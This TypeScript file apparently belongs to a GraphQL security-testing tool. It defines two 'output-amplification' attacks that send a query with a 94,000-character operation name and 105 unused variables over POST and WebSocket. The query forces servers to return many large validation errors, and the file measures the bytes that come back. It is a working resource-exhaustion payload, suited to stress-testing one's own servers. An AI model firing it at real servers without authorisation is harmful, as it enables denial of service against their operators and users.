import type { Attack } from './types';
import { measuredOverHttp, measuredOverWebSocket } from './outputAmplification';
import { jsonPost } from './wire';

/**
 * An operation with a 94,000-character name and 105 unused variables: validation on any schema writes
 * `Variable "$vN" is never used in operation "<name>".` once per variable (100 of them by default),
 * each quoting the name. Needs no knowledge of the schema: `__typename` is on every query type.
 */
export const longNameErrorsQuery = (nameLength: number, variables: number) =>
  `query ${'N'.repeat(nameLength)}(${Array.from({ length: variables }, (_, index) => `$v${index}: Boolean`).join(', ')}) { __typename }`;

const QUERY = longNameErrorsQuery(94_000, 105);

/** Validation errors that each quote a long operation name, over POST and WebSocket, with the bytes out measured. */
export const errorAmplificationAttacks: Attack[] = [
  {
    name: 'output-errors-long-name-post',
    family: 'output-amplification',
    run: (context) =>
      measuredOverHttp(
        context,
        jsonPost(context.target.graphqlPath, { query: QUERY }, context.target.headers),
        QUERY.length,
        'of errors ',
      ),
  },
  {
    name: 'output-errors-long-name-ws',
    family: 'output-amplification',
    run: (context) => measuredOverWebSocket(context, QUERY, 'of errors '),
  },
];
